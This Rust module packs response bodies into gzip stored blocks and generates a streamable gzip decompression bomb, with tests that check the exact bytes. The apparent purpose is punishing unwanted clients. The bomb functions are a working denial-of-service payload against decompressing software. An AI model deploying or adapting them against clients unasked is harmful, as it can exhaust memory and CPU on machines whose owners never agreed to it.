//! Packs bodies that nobody wants packed (RFC 1951, RFC 1952). Pure.

/// Magic number, deflate, no flags, no time, unknown system.
const HEAD: [u8; 10] = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255];
/// What a stored block can hold.
const MAX_BLOCK: usize = 65_535;

/// The body as it is, in stored blocks.
pub(super) fn packed(body: &[u8]) -> Vec<u8> {
    let mut out = HEAD.to_vec();
    let mut blocks = body.chunks(MAX_BLOCK).peekable();
    if blocks.peek().is_none() {
        out.extend([1, 0, 0, 0xff, 0xff]);
    }
    while let Some(block) = blocks.next() {
        let length = block.len() as u16;
        out.push(u8::from(blocks.peek().is_none()));
        out.extend(length.to_le_bytes());
        out.extend((!length).to_le_bytes());
        out.extend(block);
    }
    out.extend(crc32(body).to_le_bytes());
    out.extend((body.len() as u32).to_le_bytes());
    out
}

fn crc32(bytes: &[u8]) -> u32 {
    !bytes.iter().fold(u32::MAX, |crc, byte| {
        (0..8).fold(crc ^ u32::from(*byte), |crc, _| {
            (crc >> 1) ^ (if crc & 1 == 1 { 0xedb8_8320 } else { 0 })
        })
    })
}

/// The beginning of a bomb: the head, and one block of fixed codes with a first space.
pub(super) fn bomb_begin() -> Vec<u8> {
    let mut out = HEAD.to_vec();
    out.extend(Bits::default().block_begin().repeats(1).bytes);
    out
}

/// More of it, as often as one likes: each byte unpacks to 159.
pub(super) fn bomb_more(kilobytes: usize) -> Vec<u8> {
    // Eight repeats are a whole number of bytes, so this can follow itself.
    let bits = Bits::default().repeats(8).bytes;
    let mut aligned = bits.repeat(kilobytes * 1024 / bits.len() + 1);
    aligned.truncate(aligned.len() / bits.len() * bits.len());
    aligned
}

#[derive(Default)]
struct Bits {
    bytes: Vec<u8>,
    used: usize,
}

impl Bits {
    fn bit(&mut self, bit: u8) {
        if self.used.is_multiple_of(8) {
            self.bytes.push(0);
        }
        if let Some(last) = self.bytes.last_mut() {
            *last |= bit << (self.used % 8);
        }
        self.used += 1;
    }

    /// The highest bit first, as codes are.
    fn code(&mut self, code: u16, width: u32) {
        (0..width).rev().for_each(|shift| self.bit((code >> shift & 1) as u8));
    }

    /// The last block, of fixed codes; a space. One repeat makes it whole bytes.
    fn block_begin(mut self) -> Self {
        self.bit(1);
        self.bit(1);
        self.bit(0);
        self.code(0x30 + u16::from(b' '), 8);
        self
    }

    /// 258 bytes (code 285) from one byte before (distance code 0), so often.
    fn repeats(mut self, count: usize) -> Self {
        for _ in 0..count {
            self.code(0b1100_0101, 8);
            self.code(0, 5);
        }
        self
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Python's `gzip.decompress` reads them.
    #[test]
    fn a_body_is_packed_as_it_is() {
        let mut expected = HEAD.to_vec();
        expected.extend(b"\x01\x03\x00\xfc\xffabc\xc2\x41\x24\x35\x03\x00\x00\x00");
        assert_eq!(packed(b"abc"), expected);
        let long = packed(&[7; 70_000]);
        assert_eq!(long.len(), 10 + 2 * 5 + 70_000 + 8);
        assert_eq!((long[10], long[15 + MAX_BLOCK]), (0, 1));
        assert_eq!(packed(b"").len(), 10 + 5 + 8);
    }

    /// Python's `zlib.decompressobj(31)` makes 1 + 258 + 8 * 258 spaces of them.
    #[test]
    fn a_bomb_is_a_pattern_that_follows_itself() {
        assert_eq!(bomb_begin()[10..], [0x53, 0x18, 0x05]);
        let more = bomb_more(1);
        assert_eq!(more.len() % 13, 0);
        assert_eq!(more[..13], more[more.len() - 13..]);
        assert_eq!(more[..13], BOMB);
    }

    const BOMB: [u8; 13] = [163, 96, 20, 140, 130, 81, 48, 10, 70, 193, 40, 24, 5];
}
